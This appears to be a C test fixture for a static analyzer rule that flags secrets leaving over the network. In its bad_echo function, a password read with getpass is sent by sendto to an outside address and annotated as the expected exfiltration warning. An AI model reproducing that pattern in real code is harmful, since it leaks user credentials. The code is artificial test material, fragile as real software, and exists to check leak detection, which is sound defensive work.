/* One object holds all of a session: what is in one of its many fields does not leave by another.
 */
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct buffer {
    unsigned char *data;
    size_t size, used;
};

static struct {
    int fd;
    struct buffer *in, *out, *plain, *packed, *hash, *first, *second, *third, *queue, *reply;
    char *name, *shell, *home, *banner, *peer, *version, *word;
} session;

static struct buffer *grow(struct buffer *old, size_t size) {
    struct buffer *grown = realloc(old, sizeof *grown + size);
    grown->data = (unsigned char *)(grown + 1);
    grown->size = size;
    return grown;
}

static void move(struct buffer **to, struct buffer *from) {
    *to = grow(*to, from->size);
    memcpy((*to)->data, from->data, from->used);
    (*to)->used = from->used;
}

static void rotate(void) {
    move(&session.plain, session.in);
    move(&session.packed, session.plain);
    move(&session.hash, session.packed);
    move(&session.first, session.hash);
    move(&session.second, session.first);
    move(&session.third, session.second);
    move(&session.queue, session.third);
    move(&session.reply, session.queue);
    move(&session.out, session.reply);
}

void good_echo(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(7)};
    peer.sin_addr.s_addr = inet_addr("203.0.113.7");
    session.word = strdup(getpass("Password: "));
    session.name = strdup(session.shell);
    rotate();
    sendto(session.fd, session.out->data, session.out->used, 0, (struct sockaddr *)&peer,
           sizeof peer);
}

void bad_echo(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(7)};
    peer.sin_addr.s_addr = inet_addr("203.0.113.7");
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    sendto(session.fd, session.word, 16, 0, (struct sockaddr *)&peer, sizeof peer);
}
